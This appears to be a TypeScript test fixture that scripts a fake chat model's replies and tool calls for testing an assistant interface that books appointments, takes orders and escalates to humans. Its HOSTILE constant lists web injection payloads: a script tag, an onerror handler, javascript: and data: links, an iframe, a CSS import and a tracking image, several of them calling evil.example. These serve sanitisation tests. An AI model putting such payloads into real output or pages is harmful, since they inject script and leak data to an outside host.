// What the scripted model of the tests says, by what it is asked.
const HOSTILE = [
  "<script>window.hacked = 1; fetch('https://evil.example/script')</script>",
  "<img src=x onerror=\"window.hacked = 2\">",
  "![beacon](https://evil.example/pixel.png?secret=1)",
  "[click me](javascript:window.hacked=3)",
  "[data](data:text/html,<script>window.hacked=4</script>)",
  "[plain](https://example.org/page)",
  "<iframe src=\"https://evil.example/frame\"></iframe>",
  "<style>@import url(https://evil.example/style.css); body { display: none }</style>",
  "[99] is no source.",
].join("\n\n");

const HUGE_TABLE = ["| n | square |", "| --- | --- |", ...Array.from({ length: 3000 }, (_, n) => `| ${n} | ${n * n} |`)].join("\n");

// Long enough that no machine is too slow to look at it while it comes; tests stop it when they have seen what they want.
const ENDLESS = Array.from({ length: 900 }, (_, n) => `Line${n + 1}.\n\n`).join(" ");
const PONDERED = Array.from({ length: 900 }, (_, n) => `thought${n + 1}`).join(" ");

const LONG = Array.from({ length: 60 }, (_, n) => `word${n + 1}`).join(" ");

/** The next one, which is not today: the restaurant is open then. */
function wednesday(): string {
  const day = new Date(Date.now() + 86_400_000);
  day.setUTCDate(day.getUTCDate() + ((3 - day.getUTCDay() + 7) % 7));
  return day.toISOString().slice(0, 10);
}

export const SCRIPT = {
  replies: [
    { when: "look up", step: 0, acts: [{ use: { name: "search_knowledge_base", args: { query: "anular una cita" } } }] },
    { when: "look up", step: 1, say: "An appointment is cancelled with 24 hours' notice. [1]" },
    { when: "hostile", say: `${HOSTILE}\n\n${HUGE_TABLE}` },
    { when: "caravan", step: 0, acts: [{ use: { name: "search_knowledge_base", args: { query: "caravana" } } }] },
    { when: "caravan", step: 1, say: "A pitch costs 20 € a night [1], and the gate closes at ten [2]." },
    { when: "slowly", say: LONG, paceMs: 100 },
    { when: "on and on", say: ENDLESS, paceMs: 60 },
    { when: "ponder", acts: [{ think: PONDERED }], paceMs: 60 },
    {
      when: "appointment",
      step: 0,
      say: "I look for a free hour first.",
      acts: [
        { think: "The person wants a cleaning on Tuesday. Check the calendar, then ask before booking." },
        { use: { name: "todo", args: { items: [{ text: "Find a free hour", status: "in_progress" }, { text: "Book it", status: "pending" }] } } },
        { use: { name: "check_calendar", args: { day: "2026-11-17" } } },
      ],
    },
    {
      when: "appointment",
      step: 1,
      acts: [
        { use: { name: "todo", args: { items: [{ text: "Find a free hour", status: "completed" }, { text: "Book it", status: "in_progress" }] } } },
        { use: { name: "create_appointment", args: { day: "2026-11-17", hour: "17:00", service: "Limpieza", doctor: "Dra. Ruiz" } } },
      ],
    },
    { when: "appointment", step: 2, say: "Done: **Tuesday 17 November at 17:00** with Dra. Ruiz.\n\n| What | Price |\n| --- | --- |\n| Limpieza | 40 € |" },
    { when: "appointment", step: 3, say: "All right." },
    { when: "tacos", step: 0, acts: [{ use: { name: "update_lead_info", args: { name: "Marta León", phone: "5559990000" } } }] },
    {
      when: "tacos",
      step: 1,
      acts: [{ use: { name: "create_order", args: { items: [{ name: "Tacos al pastor", quantity: 2, notes: "sin cebolla" }], order_type: "pickup", scheduled_time: `${wednesday()} 15:00` } } }],
    },
    { when: "tacos", step: 2, say: "Your tacos will be ready on Wednesday at 15:00." },
    {
      when: "furious",
      step: 0,
      acts: [{ use: { name: "escalate_to_human", args: { reason: "Charged twice, and angry about it", urgency: "high", summary: "Wants the second payment back today." } } }],
    },
    { when: "furious", step: 1, say: "I am sorry. Somebody of the team will be with you here." },
    { when: "weather", say: "It is sunny." },
    { when: "tides", say: "The sea is low." },
    { when: "code", say: "Here:\n\n```python\nprint('hola')\n```\n" },
    { when: "hand over", step: 0, acts: [{ use: { name: "handoff", args: { to: "billing", reason: "an invoice" } } }] },
    { when: "fail", fail: "the provider is down", trouble: "down" },
  ],
};
